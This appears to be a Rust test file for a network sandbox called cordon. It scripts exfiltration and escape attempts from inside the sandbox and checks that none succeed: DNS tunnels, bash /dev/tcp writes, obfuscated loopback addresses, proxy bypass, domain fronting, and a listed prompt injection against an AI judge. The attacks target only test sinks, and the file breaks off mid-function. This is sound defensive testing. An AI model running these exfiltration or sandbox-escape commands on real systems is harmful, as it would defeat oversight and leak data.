//! Issue #19, the network part of the escape battery: black-box attacks by real programs (curl,
//! dig, ssh, ping, bash's /dev/tcp, python sockets, a hand-written WebSocket) inside a real
//! `cordon run` on the built-in policy plus, where an attack needs one, the smallest policy file
//! naming the loopback sink it aims at. Each attack is judged ON THE HOST SIDE — a sink on the
//! host's loopback (`fixtures/net/escsink.py`, netfix.py's DNS and UDP servers) logs every byte
//! it got and the test asserts the attack's canary never arrived — and in the audit log (the
//! decision, with its rule). Every sink is shown reachable by a control: the same kind of
//! request, where policy allows it, arrives with its canary. Every test runs as root and as
//! the unprivileged user. Nothing but loopback, TEST-NET (192.0.2.0/24, 2001:db8::/32: refused
//! by the gateway before anything is sent) and the sandbox's own addresses is ever contacted.
//!
//! | attack | layer(s) that stop it | test |
//! |---|---|---|
//! | DNS tunnel: long high-entropy labels, A/TXT/MX via resolv.conf | gateway DNS (fake-IP, nothing asked upstream) | `dns_tunnels_never_reach_a_resolver` |
//! | DNS to an explicit server (`dig @127.0.0.1`, `@192.0.2.53` for 8.8.8.8, `@198.18.0.1`) | gateway DNS (every UDP/53 is cordon's) | `dns_tunnels_never_reach_a_resolver` |
//! | DNS over TCP to an explicit server | gateway flow policy (raw IP) | `dns_tunnels_never_reach_a_resolver` |
//! | DNS tunnel into a blocklisted zone (ngrok-free.app) | gateway DNS blocklist (NXDOMAIN) | `dns_tunnels_never_reach_a_resolver` |
//! | a connect that would make the host look a secret name up | gateway flow policy (decided before any lookup) | `dns_tunnels_never_reach_a_resolver` |
//! | raw IP: sandbox 127.0.0.1, ::1, ::ffff:127.0.0.1, 0.0.0.0, bash /dev/tcp | network namespace (its own loopback) | `raw_ips_and_gateway_addresses_never_reach_host_loopback` |
//! | raw IP: the gateway's 198.18.0.1, ::ffff:198.18.0.1, an unassigned fake address | gateway flow policy | `raw_ips_and_gateway_addresses_never_reach_host_loopback` |
//! | `host.cordon.internal` without a rule | gateway flow policy | `raw_ips_and_gateway_addresses_never_reach_host_loopback` |
//! | IPv6 to a global address | gateway (IPv6 not routed) | `raw_ips_and_gateway_addresses_never_reach_host_loopback` |
//! | UDP to a non-DNS port, to the gateway, QUIC (443), WireGuard 51820, OpenVPN 1194 | gateway (UDP other than DNS dropped) | `udp_quic_and_vpn_datagrams_never_leave` |
//! | ICMP: ping, raw ICMP socket | gateway (ICMP prohibited), no CAP_NET_RAW | `udp_quic_and_vpn_datagrams_never_leave` |
//! | SMTP 25/587 (curl), FTP 21 (curl), IRC 6667, SSH to an unallowed host (ssh), OpenVPN 1194/TCP, CONNECT to 25 | gateway flow policy (risky ports) | `non_http_ports_need_a_rule_naming_host_and_port` |
//! | proxy bypass: proxy variables unset, `NO_PROXY=*`, `--noproxy`, an attacker's proxy on the host | gateway flow policy (the TUN is the only way out) | `proxy_bypass_meets_the_same_policy` |
//! | CONNECT to an allowed host, TLS SNI of a denied one (and the reverse; and the same on the TUN path) | http (the connection's host decides the certificate) + gateway | `sni_must_name_the_connections_host` |
//! | domain fronting: `Host:` ≠ SNI (HTTP/1.1), HTTP/2 `:authority` ≠ SNI, absolute-form URI, pipelined second request, CL.TE smuggling, through CONNECT | http (421 host-mismatch) | `domain_fronting_is_refused_by_the_http_layer` |
//! | placeholder to a non-matching host in query, header, body | credentials (placeholder scoping) | `placeholder_to_another_host_is_refused` |
//! | real secret (found in a file) to a non-matching host in query, header, body | DLP (known credential value) | `placeholder_to_another_host_is_refused` |
//! | placeholder in a WebSocket frame to another host | credentials (never swapped: the sink gets the worthless placeholder) | `placeholder_to_another_host_is_refused` |
//! | placeholder to its own host in the body, another header, the path | credentials (swapped only where policy says) | `placeholder_to_its_own_host_elsewhere_is_not_expanded` |
//! | placeholder with DLP off / real value with DLP off (two layers, each alone) | credentials alone / DLP alone (the control shows DLP was what stopped it) | `credential_scoping_and_dlp_each_stop_their_leak_alone` |
//! | real secret / a token in a WebSocket frame to an allowed host (was a HOLE: frames were spliced unread) | DLP on the sandbox's frames | `websocket_frames_are_scanned_like_a_body` |
//! | judge prompt injection in body, header, URL, with forged data delimiters (was a HOLE: fixed in 07ac52b) | http judge (data quoted, the markers' word escaped) | `judge_prompt_injection_is_only_ever_data` |
//! | judge answering garbage / hanging | http judge (fails closed: `on_error = "deny"`) | `a_broken_judge_fails_closed` |
//! | sandbox-runtime: HTTPS to a blocked domain, a non-standard port, a direct IP | gateway + http | `peer_srt_protocols_ports_and_direct_ips` |
//! | sandbox-runtime: wildcard apex, look-alike and suffix-extension names | gateway flow policy (host patterns) | `peer_srt_wildcard_patterns_match_only_subdomains` |
//! | codex linux-sandbox: curl, ping, ssh, getent, /dev/tcp, proxy absolute-form, direct egress | gateway + DNS | `peer_codex_common_clients_reach_nothing` |
//! | a denied port of an allowed host via the TUN, CONNECT and a plain proxy request | gateway flow policy (one decision, every route) | `one_decision_on_every_route` |
//! | CONNECT authority tricks: 127.0.0.1, [::1], [::ffff:127.0.0.1], 2130706433, 0x7f000001, 127.1, localhost, userinfo@ | gateway flow policy (raw IP, names without a rule, rebinding) | `connect_authority_tricks_reach_nothing` |
//! | plain proxy: absolute-form to a denied host with an allowed `Host:`, the reverse, a second host on a kept-alive connection, h2c upgrade | http (the target decides; 421; no h2c) | `plain_proxy_requests_are_decided_by_their_target` |

mod common;
#[path = "escape_net/helpers.rs"]
mod helpers;
#[path = "escape_net/http.rs"]
mod http_attacks;
#[path = "escape_net/judge.rs"]
mod judge_attacks;

use std::process::Output;

use common::net::{PY, UNPROXIED, run, variant_addr};
use common::{Env, show};
use helpers::{Sink, can_bind, canary, client, events, logged, netfix, tagged, tagged_json};

/// The shell function every script uses: `t TAG CMD…` prints `TAG <CMD's stdout>` on one line.
pub const T: &str =
    "t() { tag=$1; shift; printf '%s %s\\n' \"$tag\" \"$(\"$@\" 2>/dev/null | tr '\\n' ' ')\"; }\n";

/// A policy: `[dns] hosts` (name → address), allow rules (name, ports), more `[dns]` keys, and
/// the rest.
pub fn pol(hosts: &[(&str, &str)], allow: &[(&str, &[u16])], dns: &str, rest: &str) -> String {
    let mut t = String::new();
    for (host, ports) in allow {
        let ports: Vec<String> = ports.iter().map(u16::to_string).collect();
        t.push_str(&format!(
            "[[network.allow]]\nhost = \"{host}\"\nports = [{}]\n",
            ports.join(", ")
        ));
    }
    t.push_str("[dns]\n");
    if !hosts.is_empty() {
        let h: Vec<String> = hosts
            .iter()
            .map(|(n, a)| format!("\"{n}\" = \"{a}\""))
            .collect();
        t.push_str(&format!("hosts = {{ {} }}\n", h.join(", ")));
    }
    t.push_str(dns);
    t.push_str(rest);
    t
}

#[track_caller]
fn ran(o: &Output) {
    assert_eq!(o.status.code(), Some(0), "{}", show(o));
}

/// A result of escclient.py that must not have reached anything.
#[track_caller]
fn nothing_through(o: &Output, tag: &str) {
    let r = tagged_json(o, tag);
    assert!(
        r.get("reply")
            .is_none_or(|v| v.as_str().is_some_and(str::is_empty)),
        "{tag}: the attack got an answer: {r}\n{}",
        show(o)
    );
}

// ---- DNS ----------------------------------------------------------------------------------------

both!(dns_tunnels_never_reach_a_resolver, |env: Env| {
    if !common::need(&["dig", "curl"], "dig's queries, curl's connect") {
        return;
    }
    let ec = client(&env);
    let up = netfix(&["dns"]);
    let echo = Sink::tcp("127.0.0.1", &[0], None);
    let c = canary("dns").to_lowercase();
    // 63-character labels of high-entropy data, as iodine or dnscat2 send.
    let label = format!("{c}{}", "0123456789abcdef".repeat(4))[..63].to_string();
    let tunnel = format!("{label}.{label}.{c}.exfil.example");
    let p = echo.port();
    let policy = format!(
        "[[network.allow]]\nhost = \"ctl.example.test\"\nports = [{p}]\n\
         [dns]\nupstream = \"127.0.0.1:{}\"\n",
        up.port()
    );
    let dig = "dig +tries=1 +time=3";
    let script = format!(
        "{T}\
         t A {dig} +short {tunnel} A\n\
         t TXT sh -c '{dig} {c}.exfil.example TXT | grep -o \"status: [A-Z]*\"'\n\
         t MX sh -c '{dig} +short {c}.exfil.example MX | wc -l'\n\
         t LOOP sh -c '{dig} @127.0.0.1 {c}.loop.exfil.example TXT | grep -o \"status: [A-Z]*\"'\n\
         t GOOGLE sh -c '{dig} @192.0.2.53 {c}.google.exfil.example TXT | grep -o \"status: [A-Z]*\"'\n\
         t GW sh -c '{dig} @198.18.0.1 {c}.gw.exfil.example A | grep -o \"status: [A-Z]*\"'\n\
         t TCP sh -c '{dig} +tcp @192.0.2.53 {c}.tcp.exfil.example A >/dev/null; echo $?'\n\
         t BLOCKED sh -c '{dig} {c}.ngrok-free.app A | grep -o \"status: [A-Z]*\"'\n\
         t CONNECT curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 https://{c}.exfil.example/\n\
         t CTL {ec} raw ctl.example.test {p} control-bytes\n"
    );
    let o = run(&env, &policy, &script);
    ran(&o);
    let a = tagged(&o, "A");
    assert!(
        a.trim().starts_with("198.1"),
        "a synthetic answer: {a}\n{}",
        show(&o)
    );
    for tag in ["TXT", "LOOP", "GOOGLE", "GW"] {
        assert_eq!(
            tagged(&o, tag).trim(),
            "status: NOERROR",
            "{tag}\n{}",
            show(&o)
        );
    }
    assert_eq!(tagged(&o, "MX").trim(), "0", "{}", show(&o));
    assert_ne!(tagged(&o, "TCP").trim(), "0", "DNS over TCP\n{}", show(&o));
    assert_eq!(
        tagged(&o, "BLOCKED").trim(),
        "status: NXDOMAIN",
        "{}",
        show(&o)
    );
    assert_eq!(tagged(&o, "CONNECT").trim(), "403", "{}", show(&o));
    // Host side: not one query for the canary reached the resolver cordon uses; the control
    // connection's lookup did, and its bytes reached the echo sink.
    let seen = up.log();
    assert!(
        !seen.contains(&c),
        "the canary reached the resolver:\n{seen}"
    );
    assert!(
        seen.contains("QUERY ctl.example.test"),
        "control lookup:\n{seen}"
    );
    assert!(echo.saw("control-bytes"), "{}", echo.log());
    let evs = events(&env);
    logged(&evs, "dns", "allow", &[&label[..20], "TXT"]);
    logged(&evs, "dns", "deny", &["ngrok-free.app", "NXDOMAIN"]);
    logged(&evs, "network", "deny", &["192.0.2.53", "\"port\":53"]);
    logged(
        &evs,
        "network",
        "deny",
        &[&format!("{c}.exfil.example"), "\"port\":443"],
    );
});

// ---- raw addresses, the gateway's own, IPv6 --------------------------------------------------------

both!(
    raw_ips_and_gateway_addresses_never_reach_host_loopback,
    |env: Env| {
        let ec = client(&env);
        let sink = Sink::tcp("127.0.0.1", &[0], None);
        let p = sink.port();
        let c = canary("rawip");
        let raw = |tag: &str, host: &str, v6: bool| {
            format!(
                "t {tag} {ec} raw {host} {p} {c}-{tag}{}\n",
                if v6 { " --v6" } else { "" }
            )
        };
        let script = [
            T.to_string(),
            raw("LO", "127.0.0.1", false),
            raw("ANY", "0.0.0.0", false),
            raw("V6LO", "::1", true),
            raw("MAPPED", "::ffff:127.0.0.1", true),
            raw("GW", "198.18.0.1", false),
            raw("GWMAPPED", "::ffff:198.18.0.1", true),
            raw("STALE", "198.19.255.254", false),
            raw("V6NET", "2001:db8::1", true),
            raw("ALIAS", "host.cordon.internal", false),
            format!("t DEVTCP bash -c 'echo {c}-DEVTCP > /dev/tcp/127.0.0.1/{p} && echo sent'\n"),
        ]
        .concat();
        let o = run(&env, "", &script);
        ran(&o);
        for tag in [
            "LO", "ANY", "V6LO", "MAPPED", "GW", "GWMAPPED", "STALE", "V6NET", "ALIAS",
        ] {
            nothing_through(&o, tag);
        }
        assert_eq!(tagged(&o, "DEVTCP").trim(), "", "{}", show(&o));
        assert_eq!(
            sink.count("CONN"),
            0,
            "reached the host's loopback:\n{}",
            sink.log()
        );
        assert!(!sink.saw(&c), "{}", sink.log());
        let evs = events(&env);
        logged(
            &evs,
            "network",
            "deny",
            &["host.cordon.internal", &format!("\"port\":{p}")],
        );
        logged(&evs, "network", "deny", &["198.19.255.254"]);
        // Control: with a rule naming the host's loopback and this port, the same client's
        // bytes arrive.
        let o = run(
            &env,
            &format!("[[network.allow]]\nhost = \"host.cordon.internal\"\nports = [{p}]\n"),
            &format!("{T}{}", raw("CTL", "host.cordon.internal", false)),
        );
        ran(&o);
        assert!(
            sink.saw(&format!("{c}-CTL")),
            "{}\n{}",
            sink.log(),
            show(&o)
        );
    }
);

// ---- UDP, QUIC, VPNs, ICMP ------------------------------------------------------------------------

both!(udp_quic_and_vpn_datagrams_never_leave, |env: Env| {
    if !common::need(&["ping"], "ping") {
        return;
    }
    let ec = client(&env);
    let addr = variant_addr(&env, 241);
    if !can_bind(&addr, 443) {
        return;
    }
    let udp = Sink::start(
        helpers::ESCSINK,
        &["udp", "--addr", &addr, "--ports", "0,443,51820,1194"],
    );
    let u = udp.port();
    let name = "udp.example.test";
    let c = canary("udp");
    // Even rules naming every port: they allow TCP; UDP other than DNS never passes.
    let policy = pol(
        &[(name, &addr)],
        &[
            (name, &[u, 443, 51820, 1194]),
            ("host.cordon.internal", &[u]),
        ],
        "",
        "",
    );
    let script = format!(
        "{T}\
         t UDP {ec} udp {name} {u} {c}-udp\n\
         t QUIC {ec} udp {name} 443 {c}-quic\n\
         t WG {ec} udp {name} 51820 {c}-wg\n\
         t OVPN {ec} udp {name} 1194 {c}-ovpn\n\
         t GW {ec} udp 198.18.0.1 {u} {c}-gw\n\
         t ALIAS {ec} udp host.cordon.internal {u} {c}-alias\n\
         t PING sh -c 'ping -c 1 -W 2 {name} >/dev/null 2>&1; echo $?'\n\
         t PINGGW sh -c 'ping -c 1 -W 2 198.18.0.1 >/dev/null 2>&1; echo $?'\n\
         t RAWSOCK {ec} rawsock\n\
         sleep 0.5\n"
    );
    let o = run(&env, &policy, &script);
    ran(&o);
    assert_eq!(
        tagged_json(&o, "UDP")["sent"],
        true,
        "the client did send\n{}",
        show(&o)
    );
    assert_ne!(tagged(&o, "PING").trim(), "0", "{}", show(&o));
    assert_ne!(tagged(&o, "PINGGW").trim(), "0", "{}", show(&o));
    let rawsock = tagged_json(&o, "RAWSOCK");
    assert_ne!(rawsock["raw"], "ok", "a raw ICMP socket inside: {rawsock}");
    assert_eq!(udp.count("DGRAM"), 0, "datagrams got out:\n{}", udp.log());
    assert!(!udp.saw(&c), "{}", udp.log());
    let evs = events(&env);
    logged(&evs, "network", "deny", &[&format!("\"port\":{u}")]);
    logged(&evs, "network", "deny", &["\"port\":51820"]);
    // Control: the listener was there and logs what it gets.
    let s = std::net::UdpSocket::bind((addr.as_str(), 0)).unwrap();
    s.send_to(format!("{c}-control").as_bytes(), (addr.as_str(), u))
        .unwrap();
    assert!(udp.saw(&format!("{c}-control")), "{}", udp.log());
});

// ---- ports that are not HTTP ----------------------------------------------------------------------

both!(
    non_http_ports_need_a_rule_naming_host_and_port,
    |env: Env| {
        if !common::need(&["curl", "ssh"], "curl's SMTP and FTP, ssh") {
            return;
        }
        let ec = client(&env);
        let addr = variant_addr(&env, 201);
        if !can_bind(&addr, 25) {
            return;
        }
        let sink = Sink::tcp(&addr, &[21, 22, 25, 587, 1194, 6667, 0], None);
        let ctl = sink.ports[6];
        let c = canary("ports");
        env.write("mail.txt", &format!("Subject: {c}\n\n{c}-body\n"));
        let (mail, ssh) = ("mail.example.test", "ssh.example.test");
        let policy = pol(&[(mail, &addr), (ssh, &addr)], &[(mail, &[ctl])], "", "");
        let curl = "curl -s --max-time 8";
        let script = format!(
            "{T}\
         t SMTP sh -c '{curl} smtp://{mail}:25 --mail-from a@x.test --mail-rcpt b@x.test -T mail.txt; echo $?'\n\
         t SUBMIT sh -c '{curl} smtp://{mail}:587 --mail-from a@x.test --mail-rcpt b@x.test -T mail.txt; echo $?'\n\
         t FTP sh -c '{UNPROXIED} {curl} -T mail.txt ftp://{mail}:21/{c}; echo $?'\n\
         t IRC {ec} raw {mail} 6667 'NICK {c}\\r\\nUSER a 0 * :a\\r\\n'\n\
         t OVPN {ec} raw {mail} 1194 '{c}-ovpn'\n\
         t SSH sh -c 'timeout 20 ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no \
           -o UserKnownHostsFile=/dev/null {c}@{ssh} true >/dev/null 2>&1; echo $?'\n\
         t PROXY25 {ec} raw x 0 'EHLO {c}\\r\\n' --proxy 127.0.0.1:3128 --connect {mail}:25\n\
         t CTL {ec} raw {mail} {ctl} {c}-control\n"
        );
        let o = run(&env, &policy, &script);
        ran(&o);
        for tag in ["SMTP", "SUBMIT", "FTP", "SSH"] {
            assert_ne!(tagged(&o, tag).trim(), "0", "{tag}\n{}", show(&o));
        }
        for tag in ["IRC", "OVPN"] {
            nothing_through(&o, tag);
        }
        let proxied = tagged_json(&o, "PROXY25");
        assert!(
            proxied["connect"]
                .as_str()
                .is_some_and(|s| s.contains(" 403")),
            "CONNECT to port 25: {proxied}"
        );
        // Host side: one connection, the control's, whose bytes arrived; no attack canary.
        assert_eq!(sink.count("CONN"), 1, "{}", sink.log());
        assert!(sink.saw(&format!("{c}-control")), "{}", sink.log());
        let log = sink.log().replace(&format!("{c}-control"), "");
        assert!(!log.contains(&c), "an attack reached its port:\n{log}");
        let evs = events(&env);
        for port in [25, 587, 21, 6667, 1194] {
            logged(
                &evs,
                "network",
                "deny",
                &[mail, &format!("\"port\":{port}")],
            );
        }
        logged(&evs, "network", "deny", &[ssh, "\"port\":22"]);
    }
);

// ---- proxy bypass -----------------------------------------------------------------------------------

both!(proxy_bypass_meets_the_same_policy, |env: Env| {
    if !common::need(&["curl", "openssl"], "curl over HTTPS") {
        return;
    }
    let (a1, a2) = (variant_addr(&env, 203), variant_addr(&env, 205));
    if !can_bind(&a1, 443) {
        return;
    }
    setup_client(&env);
    let (good, evil) = ("good.example.test", "evil.example.test");
    let tls = helpers::tls_for(&env, "bypass", &[good, evil]);
    let good_sink = Sink::tcp(&a1, &[443], Some(&tls));
    let evil_sink = Sink::tcp(&a2, &[443], Some(&tls));
    // An attacker's own proxy, on the host's loopback.
    let their_proxy = Sink::tcp("127.0.0.1", &[0], None);
    let c = canary("bypass");
    let policy = pol(
        &[(good, &a1), (evil, &a2)],
        &[(good, &[443])],
        "",
        &format!("[tls]\nupstream_ca = \"{}\"\n", tls.ca.display()),
    );
    let code = "curl -s -o /dev/null -w '%{http_code}' --max-time 10";
    let script = format!(
        "{T}\
         t UNSET {UNPROXIED} {code} https://{evil}/{c}-unset\n\
         t NOPROXY env NO_PROXY='*' no_proxy='*' {code} https://{evil}/{c}-noproxy\n\
         t FLAG {code} --noproxy '*' https://{evil}/{c}-flag\n\
         t THEIRS env HTTPS_PROXY=http://host.cordon.internal:{tp} https_proxy=http://host.cordon.internal:{tp} \
           {code} https://{evil}/{c}-theirs\n\
         t PYDIRECT {PY} -c 'import urllib.request as u; \
           print(u.build_opener(u.ProxyHandler({{}})).open(\"https://{evil}/{c}-py\").status)'\n\
         t CTL {UNPROXIED} curl -s --max-time 10 https://{good}/{c}-control\n\
         t CTLPROXY curl -s --max-time 10 https://{good}/{c}-viaproxy\n",
        tp = their_proxy.port()
    );
    let o = run(&env, &policy, &script);
    ran(&o);
    for tag in ["UNSET", "NOPROXY", "FLAG"] {
        assert_eq!(tagged(&o, tag).trim(), "403", "{tag}\n{}", show(&o));
    }
    // The attacker's proxy is refused: curl cannot even start its CONNECT.
    assert_ne!(tagged(&o, "THEIRS").trim(), "200", "{}", show(&o));
    assert_eq!(tagged(&o, "PYDIRECT").trim(), "", "{}", show(&o));
    assert_eq!(tagged(&o, "CTL").trim(), "sink-ok", "{}", show(&o));
    assert_eq!(tagged(&o, "CTLPROXY").trim(), "sink-ok", "{}", show(&o));
    assert_eq!(evil_sink.count("CONN"), 0, "{}", evil_sink.log());
    assert_eq!(their_proxy.count("CONN"), 0, "{}", their_proxy.log());
    assert!(
        good_sink.saw(&format!("{c}-control")),
        "{}",
        good_sink.log()
    );
    assert!(
        good_sink.saw(&format!("{c}-viaproxy")),
        "{}",
        good_sink.log()
    );
    let evs = events(&env);
    let bypasses = logged(&evs, "network", "deny", &[evil, "\"port\":443"]);
    assert!(bypasses.len() >= 4, "each bypass is logged: {bypasses:?}");
    logged(&evs, "network", "deny", &["host.cordon.internal"]);
});

// ---- the peers' tests, re-expressed --------------------------------------------------------------

// anthropic-experimental/sandbox-runtime, test/sandbox/integration.test.ts: "should enforce
// network restrictions across protocols and ports" (HTTPS to a blocked domain, a non-standard
// port, a direct IP; the allowed domain still works). Here with host-side sinks behind every
// name, so "blocked" means nothing arrived.
both!(peer_srt_protocols_ports_and_direct_ips, |env: Env| {
    if !common::need(&["curl", "openssl"], "curl over HTTPS") {
        return;
    }
    let addr = variant_addr(&env, 227);
    if !can_bind(&addr, 443) {
        return;
    }
    setup_client(&env);
    let (good, blocked) = ("good.example.test", "blocked-domain.example.test");
    let tls = helpers::tls_for(&env, "srt", &[good, blocked]);
    let sink = Sink::tcp(&addr, &[443], Some(&tls));
    let alt = Sink::tcp(&addr, &[0], None);
    let c = canary("srt");
    let policy = pol(
        &[(good, &addr), (blocked, &addr)],
        &[(good, &[443])],
        "",
        &format!("[tls]\nupstream_ca = \"{}\"\n", tls.ca.display()),
    );
    let code = "curl -s -o /dev/null -w '%{http_code}' --max-time 10";
    let script = format!(
        "{T}\
         t HTTPS {code} https://{blocked}/{c}-https\n\
         t BODY curl -s --max-time 10 https://{blocked}/{c}-body\n\
         t PORT {code} http://{blocked}:{ap}/{c}-port\n\
         t PORTDIRECT sh -c '{UNPROXIED} curl -s --max-time 10 http://{blocked}:{ap}/{c}-portdirect; echo $?'\n\
         t IP {code} http://192.0.2.1/{c}-ip\n\
         t IPDIRECT sh -c '{UNPROXIED} curl -s --max-time 10 http://192.0.2.1/{c}-ipdirect; echo $?'\n\
         t OK curl -s --max-time 10 https://{good}/{c}-control\n",
        ap = alt.port()
    );
    let o = run(&env, &policy, &script);
    ran(&o);
    expect(
        &o,
        &[
            ("HTTPS", "403"),
            ("PORT", "403"),
            ("IP", "403"),
            ("OK", "sink-ok"),
        ],
    );
    assert!(
        tagged(&o, "BODY").contains("cordon"),
        "cordon's words: {}",
        show(&o)
    );
    for tag in ["PORTDIRECT", "IPDIRECT"] {
        assert_ne!(tagged(&o, tag).trim(), "0", "{tag}\n{}", show(&o));
    }
    assert_eq!(alt.count("CONN"), 0, "{}", alt.log());
    let log = sink.log().replace(&format!("{c}-control"), "");
    assert!(!log.contains(&c), "{log}");
    assert!(sink.saw(&format!("{c}-control")), "{}", sink.log());
    let evs = events(&env);
    logged(&evs, "network", "deny", &[blocked, "\"port\":443"]);
    logged(&evs, "network", "deny", &["192.0.2.1", "\"port\":80"]);
});

// sandbox-runtime, the same file: "should enforce wildcard domain pattern matching correctly"
// (`*.github.com` matches a subdomain, not the apex, not a look-alike, not another suffix).
both!(
    peer_srt_wildcard_patterns_match_only_subdomains,
    |env: Env| {
        if !common::need(&["curl", "openssl"], "curl over HTTPS") {
            return;
        }
        let addr = variant_addr(&env, 229);
        if !can_bind(&addr, 443) {
            return;
        }
        setup_client(&env);
        let names = [
            "api.wild.example.test",
            "a.b.wild.example.test",
            "wild.example.test",
            "malicious-wild.example.test",
            "wild.example.test.evil.test",
        ];
        let tls = helpers::tls_for(&env, "wild", &names);
        let sink = Sink::tcp(&addr, &[443], Some(&tls));
        let c = canary("wild");
        let hosts: Vec<(&str, &str)> = names.iter().map(|n| (*n, addr.as_str())).collect();
        let policy = pol(
            &hosts,
            &[("*.wild.example.test", &[443])],
            "",
            &format!("[tls]\nupstream_ca = \"{}\"\n", tls.ca.display()),
        );
        let script: String = std::iter::once(T.to_string())
            .chain(names.iter().enumerate().map(|(i, n)| {
                format!(
                    "t N{i} curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 https://{n}/{c}-{i}\n"
                )
            }))
            .collect();
        let o = run(&env, &policy, &script);
        ran(&o);
        expect(
            &o,
            &[
                ("N0", "200"),
                ("N1", "200"),
                ("N2", "403"),
                ("N3", "403"),
                ("N4", "403"),
            ],
        );
        let log = sink.log();
        assert!(
            log.contains(&format!("{c}-0")) && log.contains(&format!("{c}-1")),
            "{log}"
        );
        for (i, n) in names.iter().enumerate().skip(2) {
            assert!(!log.contains(&format!("{c}-{i}")), "{n}: {log}");
        }
        let evs = events(&env);
        for n in &names[2..] {
            logged(&evs, "network", "deny", &[&format!("\"host\":\"{n}\"")]);
        }
    }
);

// openai/codex, codex-rs/linux-sandbox/tests/suite/landlock.rs: sandbox_blocks_curl,
// sandbox_blocks_ping, sandbox_blocks_ssh, sandbox_blocks_getent, sandbox_blocks_dev_tcp_
// redirection; and tests/suite/managed_proxy.rs: managed_proxy_mode_routes_through_bridge_
// and_blocks_direct_egress (an absolute-form request to the proxy by hand, /dev/tcp to
// 192.0.2.1). There the sandbox has no network; here it has a gateway, so "blocked" means no
// byte reached a host-side sink and no lookup reached the host's resolver.
both!(peer_codex_common_clients_reach_nothing, |env: Env| {
    if !common::need(&["curl", "ssh", "ping"], "the peer's clients") {
        return;
    }
    setup_client(&env);
    let up = netfix(&["dns"]);
    let sink = Sink::tcp("127.0.0.1", &[0], None);
    let p = sink.port();
    let c = canary("codex");
    let name = "codex.example.test";
    let policy = format!(
        "[[network.allow]]\nhost = \"ctl.example.test\"\nports = [{p}]\n\
         [dns]\nupstream = \"127.0.0.1:{}\"\n",
        up.port()
    );
    let script = format!(
        "{T}\
         t CURL curl -sI -o /dev/null -w '%{{http_code}}' --max-time 8 http://{name}/{c}\n\
         t CURLDIRECT sh -c '{UNPROXIED} curl -sI --max-time 8 http://{name}/{c} >/dev/null; echo $?'\n\
         t PING sh -c 'ping -c 1 -W 2 {name} >/dev/null 2>&1; echo $?'\n\
         t SSH sh -c 'timeout 20 ssh -o BatchMode=yes -o ConnectTimeout=3 {name} true >/dev/null 2>&1; echo $?'\n\
         t GETENT getent ahostsv4 {name}\n\
         t DEVTCP bash -c 'echo {c} > /dev/tcp/127.0.0.1/{p} 2>/dev/null; echo $?'\n\
         t EGRESS bash -c 'echo {c} > /dev/tcp/192.0.2.1/80 2>/dev/null; echo $?'\n\
         t PROXY bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; \
           printf \"GET http://{name}/{c} HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n\" >&3; \
           IFS= read -r line <&3; printf \"%s\" \"$line\"'\n\
         t CTL bash -c 'echo {c}-control > /dev/tcp/ctl.example.test/{p}; echo $?'\n"
    );
    let o = run(&env, &policy, &script);
    ran(&o);
    // Through the proxy cordon answers 403; straight out, the connection is refused.
    assert_eq!(tagged(&o, "CURL").trim(), "403", "{}", show(&o));
    assert_eq!(tagged(&o, "CURLDIRECT").trim(), "7", "{}", show(&o));
    for tag in ["PING", "SSH", "DEVTCP", "EGRESS"] {
        assert_ne!(tagged(&o, tag).trim(), "0", "{tag}\n{}", show(&o));
    }
    assert!(tagged(&o, "GETENT").starts_with("198.1"), "{}", show(&o));
    assert!(tagged(&o, "PROXY").contains(" 403"), "{}", show(&o));
    assert_eq!(tagged(&o, "CTL").trim(), "0", "{}", show(&o));
    let seen = up.log();
    assert!(
        !seen.contains(name),
        "a lookup of {name} reached the host:\n{seen}"
    );
    assert!(seen.contains("QUERY ctl.example.test"), "{seen}");
    let log = sink.log().replace(&format!("{c}-control"), "");
    assert!(!log.contains(&c), "{log}");
    assert!(sink.saw(&format!("{c}-control")), "{}", sink.log());
    let evs = events(&env);
    logged(&evs, "network", "deny", &["192.0.2.1", "\"port\":80"]);
    logged(&evs, "network", "deny", &[name, "\"port\":80"]);
    logged(&evs, "network", "deny", &[name, "\"port\":22"]);
});

// ---- one decision, every route ---------------------------------------------------------------------

both!(one_decision_on_every_route, |env: Env| {
    if !common::need(&["curl"], "curl") {
        return;
    }
    let ec = client(&env);
    let sink = Sink::tcp("127.0.0.1", &[0], None);
    let p = sink.port();
    let name = "good.example.test";
    let c = canary("route");
    let script = |tagc: &str| {
        format!(
            "{T}\
             t TUN {ec} raw {name} {p} '{tagc}-tun'\n\
             t CONNECT {ec} raw x 0 '{tagc}-connect' --proxy 127.0.0.1:3128 --connect {name}:{p}\n\
             t PLAIN curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 http://{name}:{p}/{tagc}-plain\n"
        )
    };
    // The host's port 443 is allowed, this one is not: every route is refused and logged.
    let o = run(
        &env,
        &pol(&[(name, "127.0.0.1")], &[(name, &[443])], "", ""),
        &script(&c),
    );
    ran(&o);
    nothing_through(&o, "TUN");
    let connect = tagged_json(&o, "CONNECT");
    assert!(
        connect["connect"]
            .as_str()
            .is_some_and(|s| s.contains(" 403")),
        "{connect}"
    );
    assert_eq!(tagged(&o, "PLAIN").trim(), "403", "{}", show(&o));
    assert_eq!(sink.count("CONN"), 0, "{}", sink.log());
    let evs = events(&env);
    let denials = logged(&evs, "network", "deny", &[name, &format!("\"port\":{p}")]);
    let vias: std::collections::BTreeSet<&str> = denials
        .iter()
        .filter_map(|e| e["detail"]["via"].as_str())
        .collect();
    assert!(
        vias.len() >= 2,
        "the TUN and the proxy each logged theirs: {denials:?}"
    );
    // Control: with the port named, all three routes arrive.
    let ctl = format!("{c}ctl");
    let o = run(
        &env,
        &pol(&[(name, "127.0.0.1")], &[(name, &[p])], "", ""),
        &script(&ctl),
    );
    ran(&o);
    for route in ["tun", "connect", "plain"] {
        assert!(
            sink.saw(&format!("{ctl}-{route}")),
            "{route}: {}\n{}",
            sink.log(),
            show(&o)
        );
    }
});

both!(connect_authority_tricks_reach_nothing, |env: Env| {
    let ec = client(&env);
    let sink = Sink::tcp("127.0.0.1", &[0], None);
    let p = sink.port();
    let name = "ok.example.test";
    let c = canary("authority");
    let tricks = [
        "127.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "2130706433",
        "0x7f000001",
        "127.1",
        "localhost",
        "host.cordon.internal",
        "ok.example.test@127.0.0.1",
        "0177.0.0.1",
    ];
    let mut script = T.to_string();
